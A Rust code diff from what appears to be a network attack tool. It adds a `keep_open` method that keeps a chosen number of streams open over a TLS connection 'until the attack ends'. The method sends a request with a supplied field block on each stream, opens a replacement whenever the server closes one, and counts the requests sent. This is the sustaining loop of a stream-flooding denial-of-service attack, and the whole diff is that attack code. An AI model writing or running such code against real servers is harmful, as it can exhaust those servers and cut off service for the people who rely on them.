@@ -13,7 +13,7 @@ use rustix::time::Timespec;
 use rustls::pki_types::ServerName;
 use rustls::{ClientConfig, ClientConnection};
 
-use super::frames::Answers;
+use super::frames::{Answers, request};
 use super::subject::Front;
 use super::tally::Tally;
 
@@ -97,6 +97,25 @@ impl<'a> Link<'a> {
             flags.set(PollFlags::OUT, self.tls.wants_write());
             let wait = Timespec::try_from(wait).unwrap_or_default();
             poll(&mut [PollFd::new(&self.stream, flags)], Some(&wait))?;
+        }
+        Ok(())
+    }
+
+    /// Keeps this number of streams open until the attack ends: sends a request with this field block for each, and
+    /// another for each stream that the server ends. Counts the requests.
+    ///
+    /// # Errors
+    /// The server has ended the connection.
+    pub fn keep_open(&mut self, streams: u64, block: &[u8]) -> io::Result<()> {
+        let mut opened = 0;
+        while self.tally.goes_on() {
+            while opened < self.answers.ended + streams {
+                let stream = u32::try_from(2 * opened + 1).map_err(io::Error::other)?;
+                self.send(&request(stream, block))?;
+                self.tally.units.add(1);
+                opened += 1;
+            }
+            self.turn(LOOK_UP)?;
         }
         Ok(())
     }
